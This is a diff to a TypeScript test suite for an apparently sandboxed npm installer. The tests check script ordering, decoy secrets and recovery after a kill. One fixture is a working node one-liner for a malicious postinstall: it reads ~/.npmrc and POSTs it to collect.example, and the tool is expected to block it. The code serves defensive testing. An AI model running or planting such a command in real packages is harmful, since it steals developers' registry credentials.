@@ -120,18 +120,98 @@ function containersOf(pid: number): string[] {
 }
 
 describe('safe-install install', () => {
-  test('the project\'s own prepare runs on the host after the install, through npm; not with --sandbox-root', async () => {
-    const marker = "node -e \"require('fs').writeFileSync('prepared.txt', process.env.npm_lifecycle_event)\"";
-    const dir = project('own-scripts', { scripts: { prepare: marker }, dependencies: { '@fixtures/no-scripts': '1.0.0' } });
+  test('the project\'s own scripts run on the host after the install, through npm, each event once', async () => {
+    const log = (event: string) => `node -e "require('fs').appendFileSync('events.log', '${event}\\n')"`;
+    const events = ['preinstall', 'install', 'postinstall', 'prepare'];
+    const dir = project('own-scripts', { scripts: Object.fromEntries(events.map((e) => [e, log(e)])), dependencies: { '@fixtures/no-scripts': '1.0.0' } });
     const r = await run(dir, ['install', '--registry', registry.url, '--json']);
     assert.equal(r.code, 0, r.stderr);
-    assert.deepEqual((JSON.parse(r.stdout) as { install: { rootScripts: string[] } }).install.rootScripts, ['prepare']);
-    assert.equal(fs.readFileSync(path.join(dir, 'prepared.txt'), 'utf8'), 'prepare');
-    const skipped = project('own-scripts-skipped', { scripts: { prepare: marker }, dependencies: { '@fixtures/no-scripts': '1.0.0' } });
-    const s = await run(skipped, ['install', '--registry', registry.url, '--json', '--sandbox-root']);
-    assert.equal(s.code, 0, s.stderr);
-    assert.deepEqual((JSON.parse(s.stdout) as { install: { rootScripts: string[] } }).install.rootScripts, []);
-    assert.ok(!fs.existsSync(path.join(skipped, 'prepared.txt')));
+    const install = (JSON.parse(r.stdout) as { install: { rootScripts: string[]; rootScriptsIn: string } }).install;
+    assert.deepEqual(install.rootScripts, events);
+    assert.equal(install.rootScriptsIn, 'host');
+    // `npm run install` alone would run preinstall and postinstall a second time.
+    assert.equal(fs.readFileSync(path.join(dir, 'events.log'), 'utf8'), events.map((e) => `${e}\n`).join(''));
+  });
+
+  test('--sandbox-root: the project\'s prepare runs in the sandbox on the whole built tree; its outputs land, secrets never go in or come back', async () => {
+    const dir = project('sandbox-root', {
+      scripts: { prepare: 'node scripts/prepare.js' },
+      dependencies: { '@fixtures/dep-postinstall': '1.0.0', '@fixtures/no-scripts': '1.0.0' },
+    });
+    fs.mkdirSync(path.join(dir, 'scripts'));
+    fs.writeFileSync(
+      path.join(dir, 'scripts', 'prepare.js'),
+      [
+        "const fs = require('fs');",
+        "fs.mkdirSync('dist', { recursive: true });",
+        'fs.writeFileSync(\'dist/seen.json\', JSON.stringify({',
+        "  home: require('os').homedir(),",
+        "  depBuilt: fs.readFileSync('node_modules/@fixtures/dep-postinstall/marker.txt', 'utf8'),",
+        "  plain: fs.existsSync('node_modules/@fixtures/no-scripts/package.json'),",
+        "  env: fs.readFileSync('.env', 'utf8'),",
+        '}));',
+        "fs.appendFileSync('.env', 'WRITTEN_IN_SANDBOX=1\\n');",
+        "fs.rmSync('stale.txt');",
+        '',
+      ].join('\n'),
+    );
+    const realEnv = 'API_TOKEN=real-secret-never-copied-5d1f\n';
+    fs.writeFileSync(path.join(dir, '.env'), realEnv);
+    fs.writeFileSync(path.join(dir, 'stale.txt'), 'from an earlier build\n');
+    fs.mkdirSync(path.join(dir, '.git'));
+    fs.writeFileSync(path.join(dir, '.git', 'config'), '[remote "origin"]\n\turl = https://user:real-token@git.example/repo.git\n');
+
+    const r = await run(dir, ['install', '--registry', registry.url, '--json', '--sandbox-root', '--no-cache']);
+    assert.equal(r.code, 0, r.stderr);
+    const report = JSON.parse(r.stdout) as Omit<InstallJson, 'packages' | 'install'> & {
+      packages: { name: string; location: string; scripts: Record<string, string>; session: { scripts: { event: string; outcome: string }[] } }[];
+      install: { rootScripts: string[]; rootScriptsIn: string; project: { leftOut: string[]; notLanded: string[] } };
+    };
+    assert.deepEqual(validateReport(report).errors, []);
+    assert.equal(report.verdict, 'allow');
+    assert.deepEqual(report.install.rootScripts, ['prepare']);
+    assert.equal(report.install.rootScriptsIn, 'sandbox');
+    const own = report.packages.find((p) => p.location === '');
+    assert.ok(own, 'the project is in the report');
+    assert.equal(own.name, 'demo-app');
+    assert.deepEqual(own.session.scripts.map((s) => [s.event, s.outcome]), [['prepare', 'ok']]);
+    assert.deepEqual(report.install.project.leftOut, ['.env', '.git']);
+    assert.deepEqual(report.install.project.notLanded, ['.env']);
+
+    // It ran in the sandbox (the decoy home), after the dependency's own postinstall, with the
+    // whole tree there; the .env it read was the decoy one.
+    const seen = JSON.parse(fs.readFileSync(path.join(dir, 'dist', 'seen.json'), 'utf8')) as { home: string; depBuilt: string; plain: boolean; env: string };
+    assert.notEqual(seen.home, os.homedir());
+    assert.match(seen.home, /^\/home\//);
+    assert.equal(seen.depBuilt, 'dep-postinstall ran\n');
+    assert.equal(seen.plain, true);
+    assert.doesNotMatch(seen.env, /real-secret-never-copied/);
+    assert.match(seen.env, /=/, 'a decoy .env stood in for the real one');
+    // Its deletion landed; the real .env and .git did not change.
+    assert.ok(!fs.existsSync(path.join(dir, 'stale.txt')));
+    assert.equal(fs.readFileSync(path.join(dir, '.env'), 'utf8'), realEnv);
+    assert.match(fs.readFileSync(path.join(dir, '.git', 'config'), 'utf8'), /real-token/);
+    assert.equal(fs.readFileSync(path.join(dir, 'node_modules', '@fixtures', 'dep-postinstall', 'marker.txt'), 'utf8'), 'dep-postinstall ran\n');
+  });
+
+  test('--sandbox-root: a project whose postinstall steals ~/.npmrc is blocked, and nothing of the project changes', async () => {
+    const steal =
+      "node -e \"const d = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); const r = require('https').request({ host: 'collect.example', method: 'POST', path: '/' }); r.on('error', () => {}); r.end(d)\"";
+    const dir = project('sandbox-root-evil', { scripts: { postinstall: steal }, dependencies: { '@fixtures/no-scripts': '1.0.0' } });
+    fs.writeFileSync(path.join(dir, 'README.md'), 'an untrusted checkout\n');
+    const before = projectHash(dir);
+    const files = fs.readdirSync(dir).sort();
+    const r = await run(dir, ['install', '--registry', registry.url, '--json', '--sandbox-root']);
+    assert.equal(r.code, 1, r.stderr);
+    const report = JSON.parse(r.stdout) as { verdict: string; install: { installed: boolean }; packages: { location: string; verdict: string; findings: { rule: string }[] }[] };
+    assert.equal(report.verdict, 'block');
+    assert.equal(report.install.installed, false);
+    const own = report.packages.find((p) => p.location === '')!;
+    assert.equal(own.verdict, 'block');
+    const rules = own.findings.map((f) => f.rule);
+    assert.ok(rules.includes('credential-access') && rules.includes('exfiltration'), rules.join(', '));
+    assert.equal(projectHash(dir), before);
+    assert.deepEqual(fs.readdirSync(dir).sort(), files);
   });
 
   test('a native addon lands built and loads on the host; package.json and lockfile are npm\'s', async () => {
@@ -280,6 +360,20 @@ describe('safe-install install', () => {
     await npmInstallIgnoreScripts(ref, ['@fixtures/benign-codegen']);
     assert.equal(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'), fs.readFileSync(path.join(ref, 'package.json'), 'utf8'));
     assert.equal(fs.readFileSync(path.join(dir, 'package-lock.json'), 'utf8'), fs.readFileSync(path.join(ref, 'package-lock.json'), 'utf8'));
+    assert.ok(!fs.existsSync(path.join(dir, '.safe-install')));
+  });
+
+  test('--sandbox-root, killed after the commit started: the next run lands the project\'s outputs too', async () => {
+    const prepare = "node -e \"require('fs').mkdirSync('dist'); require('fs').writeFileSync('dist/out.txt', 'built')\"";
+    const dir = project('kill-commit-root', { scripts: { prepare }, dependencies: { '@fixtures/no-scripts': '1.0.0' } });
+    await killWhen(start(dir, ['install', '--sandbox-root', '--registry', registry.url], { SAFE_INSTALL_TEST_PAUSE: 'commit:20000' }), /test pause at commit/);
+    assert.ok(!fs.existsSync(path.join(dir, 'dist')) && !fs.existsSync(path.join(dir, 'node_modules')), 'the journal is written, nothing moved yet');
+    // An install naming a package runs no project script: only the roll-forward can land dist/.
+    const next = await run(dir, ['install', '@fixtures/no-scripts-dep', '--registry', registry.url, '--json']);
+    assert.equal(next.code, 0, next.stderr);
+    assert.deepEqual((JSON.parse(next.stdout) as { install: { rootScripts: string[] } }).install.rootScripts, []);
+    assert.equal(fs.readFileSync(path.join(dir, 'dist', 'out.txt'), 'utf8'), 'built');
+    assert.ok(fs.existsSync(path.join(dir, 'node_modules', '@fixtures', 'no-scripts', 'package.json')));
     assert.ok(!fs.existsSync(path.join(dir, '.safe-install')));
   });
 });
